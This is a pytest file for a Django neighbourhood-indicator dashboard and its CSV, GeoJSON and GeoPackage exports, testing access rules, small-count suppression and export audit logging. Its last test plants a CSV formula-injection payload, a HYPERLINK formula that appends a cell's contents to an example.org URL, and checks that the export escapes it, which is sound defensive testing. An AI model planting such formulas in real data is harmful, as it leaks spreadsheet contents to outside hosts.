"""/regie/ and its exports, read back as people read them: the page's table parsed, the CSV by
the csv module, the GeoJSON by json, the GeoPackage by GDAL (ogrinfo and Django's DataSource)."""

import csv
import datetime
import io
import json
import subprocess

import pytest
from django.contrib.gis.gdal import DataSource
from django.urls import reverse
from django.utils import translation

from moderation.models import AuditEntry
from regie.indicators import count_indicators
from regie.services import snapshot_take
from tests.factories import HelpOfferFactory, OrganisationFactory, ReferralFactory, UserFactory
from tests.html_tree import parse

pytestmark = pytest.mark.django_db

PEOPLE = [i.code for i in count_indicators() if i.about_people]


@pytest.fixture
def coordinator(client):
    client.force_login(UserFactory(is_coordinator=True))
    return client


@pytest.fixture
def snapshots(town):
    """A year-old snapshot, last month's, and today's after one more welcoming association."""
    a, b = town
    snapshot_take(today=datetime.date(2025, 12, 1))
    snapshot_take(today=datetime.date(2026, 11, 1))
    OrganisationFactory(
        neighbourhood=a, point=town_far_west(), reduced_rate=True, welcome_person=True
    )
    snapshot_take(today=datetime.date(2026, 12, 1))
    return a, b


def town_far_west():
    from tests.regie.conftest import west_of_place

    return west_of_place(1_950)  # 50 m from the address at 2,000 m


def table_rows(response):
    table = parse(response.content).find("table", cls="cards")
    return [
        [cell.text for cell in row.find_all() if cell.tag in ("th", "td")]
        for row in table.find("tbody").find_all("tr")
    ]


def get(client, name="regie:page", **query):
    with translation.override("en"):
        return client.get(reverse(name), query)


def test_only_coordinators_and_moderators(client, snapshots):
    assert get(client).status_code == 302  # to the log-in page
    client.force_login(UserFactory())
    assert get(client).status_code == 404
    assert get(client, "regie:export-csv").status_code == 404
    client.force_login(UserFactory(is_moderator=True))
    assert get(client).status_code == 200


def test_white_spots_first_for_reduced_rate_and_come_alone_within_800_m(coordinator, snapshots):
    response = get(coordinator, filter="reduced_rate_come_alone", distance=800)

    assert response.status_code == 200
    rows = table_rows(response)
    # A: 4 addresses, 3 within 800 m now (200, 600 and the one 50 m from the new association):
    # 2,000 residents x 1/4 = 500 out of reach. B: 700 residents on a grid, mostly reached.
    name, residents, share, out, _value, change_previous, change_year = rows[0]
    assert (name, residents, share, out) == ("Binnenstad", "2000", "75.0 %", "500")
    # Last month 2 of 4 addresses were within reach: 1,000 out of reach, 500 fewer now.
    assert (change_previous, change_year) == ("-500", "-500")
    assert rows[1][0] == "Oost"
    assert int(rows[1][3]) < 500
    page = parse(response.content)
    assert "White spots first" in page.find("h2", id="table-title").text
    assert page.find("th", scope="col", **{"aria-sort": "descending"}) is not None
    legend = page.find("ul", cls="choropleth-legend").text
    assert "500 to" in legend or "to 500" in legend


def test_sorting_by_name_is_a_link_without_javascript(coordinator, snapshots):
    page = parse(get(coordinator).content)
    link = page.find("th", scope="col").find("a")
    assert "sort=name" in link.attrs["href"]

    rows = table_rows(coordinator.get(reverse("regie:page") + link.attrs["href"]))
    assert [r[0] for r in rows] == ["Binnenstad", "Oost"]


def test_counts_per_thousand_residents(coordinator, snapshots):
    rows = table_rows(get(coordinator, indicator="organisations", per_thousand="on"))
    by_name = {r[0]: r for r in rows}
    # A has 3 associations and 2,000 residents: 1.5 per 1,000.
    assert by_name["Binnenstad"][4] == "1.5"


def people_counts(town):
    """4 help offers in A and 3 referrals to an association in B: all under 5."""
    a, b = town
    for _ in range(4):
        HelpOfferFactory(neighbourhood=a)
    in_b = OrganisationFactory(neighbourhood=b)
    for _ in range(3):
        ReferralFactory(organisation=in_b)
    snapshot_take()


def test_no_people_count_under_5_leaves_the_page_or_an_export(coordinator, town, tmp_path):
    people_counts(town)

    for code in PEOPLE:
        rows = table_rows(get(coordinator, indicator=code))
        for row in rows:
            assert row[4] == "fewer than 5" or int(row[4]) >= 5
            assert row[5] == row[6] == "–"  # no change of a count about people

    for row in csv.DictReader(io.StringIO(get(coordinator, "regie:export-csv").content.decode())):
        for code in PEOPLE:
            assert row[code] == "<5" or int(row[code]) >= 5
    geojson = json.loads(get(coordinator, "regie:export-geojson").content)
    for feature in geojson["features"]:
        for code in PEOPLE:
            value = feature["properties"][code]
            assert value is None or value >= 5
    path = tmp_path / "regie.gpkg"
    path.write_bytes(get(coordinator, "regie:export-gpkg").content)
    for feature in DataSource(str(path))[0]:
        for code in PEOPLE:
            value = feature.get(code)
            assert value is None or value >= 5


def test_the_three_exports_have_the_same_figures_and_are_audited(coordinator, snapshots, tmp_path):
    csv_response = get(coordinator, "regie:export-csv")
    assert 'filename="buurtkaart-regie-2026-12-01.csv"' in csv_response["Content-Disposition"]
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(csv_response.content.decode()))}
    assert rows["A"]["snapshot"] == "2026-12-01"
    assert rows["A"]["reach_reduced_rate_come_alone_800"] == "75.0"
    assert rows["A"]["out_reduced_rate_come_alone_800"] == "500"
    assert rows["A"]["organisations"] == "3"

    geojson = json.loads(get(coordinator, "regie:export-geojson").content)
    assert geojson["snapshot"] == "2026-12-01"
    properties = {f["properties"]["code"]: f["properties"] for f in geojson["features"]}
    assert properties["A"]["out_reduced_rate_come_alone_800"] == 500
    assert geojson["features"][0]["geometry"]["type"] in ("Polygon", "MultiPolygon")

    path = tmp_path / "regie.gpkg"
    path.write_bytes(get(coordinator, "regie:export-gpkg").content)
    info = subprocess.run(
        ["ogrinfo", "-so", "-al", str(path)], check=True, capture_output=True, text=True
    ).stdout
    assert "Layer name: regie_2026_12_01" in info
    assert "Geometry: Multi Polygon" in info
    assert "Feature Count: 2" in info
    layer = DataSource(str(path))[0]
    assert layer.srs.srid == 4326
    features = {f.get("code"): f for f in layer}
    for name in ("reach_reduced_rate_come_alone_800", "out_reduced_rate_come_alone_800"):
        assert float(features["A"].get(name)) == float(rows["A"][name])
        assert float(features["B"].get(name)) == float(rows["B"][name])
    assert features["A"].geom.geom_type in ("MultiPolygon", "Polygon")

    entries = AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT)
    assert sorted(entries.values_list("reason", flat=True)) == ["csv", "geojson", "gpkg"]


def test_the_page_says_which_areas_are_measured_on_a_grid(coordinator, snapshots):
    page = parse(get(coordinator).content)
    notices = [p.text for p in page.find_all("p", cls="notice")]
    assert any("100 m grid" in text and "Oost" in text for text in notices)


def test_without_a_snapshot_the_page_says_so(coordinator):
    response = get(coordinator)
    assert response.status_code == 200
    assert "No figures yet" in response.content.decode()
    assert get(coordinator, "regie:export-csv").status_code == 404


def test_a_neighbourhood_name_is_never_a_formula_in_the_csv(coordinator, town):
    """Names come from imported boundary files: '=HYPERLINK(...)' stays text in a spreadsheet."""
    a, _b = town
    a.name = '=HYPERLINK("http://example.org/?"&A1,"Binnenstad")'
    a.save(update_fields=["name"])
    snapshot_take(today=datetime.date(2026, 12, 1))
    rows = {
        r["code"]: r
        for r in csv.DictReader(io.StringIO(get(coordinator, "regie:export-csv").content.decode()))
    }
    assert rows["A"]["name"] == "'" + a.name
    assert rows["B"]["name"] == "Oost"
